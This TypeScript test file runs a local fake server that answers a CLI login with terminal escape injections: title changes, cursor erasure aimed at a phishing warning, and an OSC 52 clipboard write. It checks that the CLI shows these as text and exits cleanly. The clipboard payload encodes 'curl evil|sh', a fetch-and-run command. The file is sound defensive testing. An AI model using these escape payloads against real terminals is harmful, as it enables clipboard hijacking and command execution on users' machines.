// A hostile instance against a real terminal: the built CLI in tmux logs in to a small server on
// 127.0.0.1 whose answers carry terminal escapes (a cursor move and line erase aimed at the
// phishing warning, an OSC 0 title, an OSC 52 clipboard write, colours, BEL) or are huge. The
// terminal must show the escapes as text and obey none of them, and the login must always end
// on q, Ctrl+C and signals.
import { existsSync } from "node:fs";
import { createServer, type IncomingMessage, type ServerResponse } from "node:http";
import type { Socket } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { WebSocketServer } from "ws";
import { baseEnv, CLI, newConfigDir } from "./_cli.js";
import { TmuxSession } from "./_tmux.js";

const ESC = "\x1b";
const BEL = "\x07";
/** "curl evil|sh", for the clipboard. */
const CLIPBOARD = `${ESC}]52;c;Y3VybCBldmlsfHNo${BEL}`;
const TITLE = `${ESC}]0;PWNED${BEL}`;
const ERASE_UP = `${ESC}[1A${ESC}[2K`;
const RED = `${ESC}[41m`;
const ALL = `${TITLE}${CLIPBOARD}${ERASE_UP}${RED}${BEL}`;
/** How ALL reads once made visible. */
const ALL_SHOWN = ALL.replaceAll(ESC, "\\x1b").replaceAll(BEL, "\\x07");

const HOUR_MS = 60 * 60 * 1000;

interface Answers {
  /** /health's version. */
  version?: string;
  /** startAuthenticationFlow's request. */
  request?: (url: string) => unknown;
  /** GraphQL errors instead of an answer to startAuthenticationFlow. */
  errors?: unknown[];
}

interface Hostile {
  url: string;
  close(): Promise<void>;
}

function json(res: ServerResponse, body: unknown): void {
  res.writeHead(200, { "content-type": "application/json" });
  res.end(JSON.stringify(body));
}

async function bodyOf(req: IncomingMessage): Promise<string> {
  let text = "";
  for await (const chunk of req) text += chunk;
  return text;
}

/**
 * Just enough of an instance for a login to reach its waiting screen: /health, the GraphQL
 * startAuthenticationFlow, and a graphql-ws socket that acknowledges, answers pings, and never
 * delivers a token (the code waits for a person who never comes).
 */
async function startHostile(answers: Answers): Promise<Hostile> {
  let url = "";
  const server = createServer(async (req, res) => {
    const path = (req.url ?? "").split("?")[0];
    if (req.method === "GET" && path === "/health")
      return json(res, { name: "caido", version: answers.version ?? "0.56.0", ready: true });
    if (req.method === "POST" && path === "/graphql") {
      const { query } = JSON.parse(await bodyOf(req)) as { query: string };
      if (query.includes("startAuthenticationFlow")) {
        if (answers.errors) return json(res, { data: null, errors: answers.errors });
        const request = answers.request?.(url) ?? {
          id: "hostile-request",
          userCode: "EVIL-CODE",
          verificationUrl: "https://evil.example/device?user_code=EVIL-CODE",
          expiresAt: new Date(Date.now() + HOUR_MS).toISOString(),
        };
        return json(res, { data: { startAuthenticationFlow: { request, error: null } } });
      }
    }
    res.writeHead(404).end();
  });
  const sockets = new Set<Socket>();
  server.on("connection", (socket) => {
    sockets.add(socket);
    socket.on("close", () => sockets.delete(socket));
  });
  const wss = new WebSocketServer({
    noServer: true,
    handleProtocols: () => "graphql-transport-ws",
  });
  server.on("upgrade", (req, socket, head) => {
    wss.handleUpgrade(req, socket, head, (ws) => {
      ws.on("message", (data) => {
        const type = (JSON.parse(String(data)) as { type?: string }).type;
        if (type === "connection_init") ws.send(JSON.stringify({ type: "connection_ack" }));
        if (type === "ping") ws.send(JSON.stringify({ type: "pong" }));
      });
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  url = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
  return {
    url,
    close: () =>
      new Promise((resolve) => {
        for (const client of wss.clients) client.terminate();
        wss.close();
        for (const socket of sockets) socket.destroy();
        server.close(() => resolve());
      }),
  };
}

const waitingScreen = (s: string) => /│ {2}.+ {2}│/.test(s) && /q cancel\s*$/m.test(s);

describe.concurrent("a hostile instance and the terminal (tmux)", () => {
  const terms: TmuxSession[] = [];
  const servers: Hostile[] = [];

  beforeAll(() => {
    if (!existsSync(CLI)) throw new Error(`${CLI} is missing: run npm run build (npm test does).`);
  });
  afterAll(async () => {
    await Promise.all(terms.map((t) => t.close()));
    await Promise.all(servers.map((s) => s.close()));
  });

  async function login(answers: Answers, size = { columns: 120, rows: 40 }) {
    const server = await startHostile(answers);
    servers.push(server);
    const term = await TmuxSession.start({
      ...size,
      command: [process.execPath, CLI, "login", server.url, "--no-browser"],
      env: baseEnv(newConfigDir()),
    });
    terms.push(term);
    return { server, term, pid: await term.pid() };
  }

  /** The terminal obeyed none of it: same title, no clipboard write, no red, nothing erased. */
  async function untouched(term: TmuxSession) {
    expect(await term.title()).not.toContain("PWNED");
    expect(await term.buffers()).toBe("");
    expect(await term.capture({ escapes: true })).not.toContain(RED);
    expect((await term.capture()).split("\n")[0]).toMatch(/^Logging in to http:\/\/127\.0\.0\.1:/);
  }

  it("this tmux obeys the escapes used here (so the checks below can fail)", async () => {
    const term = await TmuxSession.start({
      columns: 80,
      rows: 24,
      command: ["sh", "-c", `printf '${TITLE}${CLIPBOARD}${RED}red'; sleep 30`],
      env: { PATH: process.env.PATH },
    });
    terms.push(term);
    await term.waitFor("red");
    expect(await term.title()).toBe("PWNED");
    expect(await term.buffers()).not.toBe("");
    expect(await term.capture({ escapes: true })).toContain(RED);
  });

  it("escapes in the /health version are shown as text, and the phishing warning stays", async () => {
    const { term } = await login({ version: `9${ALL}` });
    const screen = await term.waitFor(waitingScreen);
    // Cut to a version's length, escapes and all.
    expect(screen.replaceAll("\n", "")).toContain(`(Caido 9${ALL_SHOWN.slice(0, 40)}`);
    expect(screen).toContain(
      "Warning: the sign-in page is on evil.example, not on caido.io. Continue only if you trust this instance.",
    );
    expect(screen).toContain("E V I L - C O D E");
    await untouched(term);
    await term.sendKeys("q");
    expect(await term.exitCode()).toBe(130);
  });

  it("escapes in a GraphQL error message are shown as text", async () => {
    const { term } = await login({ errors: [{ message: `boom ${ALL}` }] });
    const screen = await term.waitFor(/✗ .+/);
    expect(screen.replaceAll("\n", "")).toMatch(/boom ?\\x1b\]0;PWNED\\x07\\x1b\]52;c;/);
    await untouched(term);
    expect(await term.exitCode()).toBe(1);
  });

  it.each([
    ["user code", { userCode: `EV${ERASE_UP}${ALL}IL` }, /userCode|EV\\x1b\[1A/],
    [
      "verification URL",
      { verificationUrl: `https://evil.example/d?c=${ALL}x` },
      /verificationUrl|%1B\]0;PWNED/,
    ],
  ])("escapes in the %s never reach the terminal raw", async (_name, spoiled, shown) => {
    const { term } = await login({
      request: () => ({
        id: "hostile-request",
        userCode: "EVIL-CODE",
        verificationUrl: "https://evil.example/device?user_code=EVIL-CODE",
        expiresAt: new Date(Date.now() + HOUR_MS).toISOString(),
        ...spoiled,
      }),
    });
    // Refused as malformed, or shown made safe: either way, named or visible.
    await term.waitFor((s) => shown.test(s.replaceAll("\n", "")));
    await untouched(term);
    await term.sendKeys("q");
    expect([1, 130]).toContain(await term.exitCode());
  });

  it.each([
    [
      "a 200 KB verification URL",
      { verificationUrl: `https://caido.io/d?c=${"a".repeat(200 * 1024)}` },
    ],
    ["a 100 KB user code", { userCode: "B".repeat(100 * 1024) }],
  ])("%s: the login still ends on SIGTERM", async (_name, huge) => {
    const { term, pid } = await login({
      request: () => ({
        id: "hostile-request",
        userCode: "EVIL-CODE",
        verificationUrl: "https://caido.io/device?user_code=EVIL-CODE",
        expiresAt: new Date(Date.now() + HOUR_MS).toISOString(),
        ...huge,
      }),
    });
    // Whatever stops it first (a refusal at the protocol edge, or the screen drawing it
    // bounded), the terminal shows a screen, not a flood, and the login ends.
    const screen = await term.waitFor((s) => /q cancel\s*$/m.test(s) || /✗ .+/.test(s));
    expect(screen.length).toBeLessThan(120 * 40 * 4);
    if (/✗ .+/.test(screen)) {
      expect(await term.exitCode({ timeoutMs: 10_000 })).toBe(1);
      return;
    }
    process.kill(pid, "SIGTERM");
    // Only a bound on a hang: a live event loop ends within milliseconds.
    expect(await term.exitCode({ timeoutMs: 10_000 })).toBe(130);
  });

  it.each([
    ["q", "key", "q", 130],
    ["Ctrl+C", "key", "C-c", 130],
    ["SIGINT", "signal", "SIGINT", 130],
    ["SIGTERM", "signal", "SIGTERM", 130],
    ["SIGHUP", "signal", "SIGHUP", undefined],
  ] as const)("%s ends a login waiting on a silent instance", async (_name, how, what, code) => {
    const { term, pid } = await login({});
    await term.waitFor(waitingScreen);
    if (how === "key") await term.sendKeys(what);
    else process.kill(pid, what);
    const exit = await term.exitCode({ timeoutMs: 10_000 });
    // SIGHUP (the terminal went away) may end it by the signal itself: 128 + 1.
    if (code === undefined) expect([129, 130]).toContain(exit);
    else expect(exit).toBe(code);
  });
});
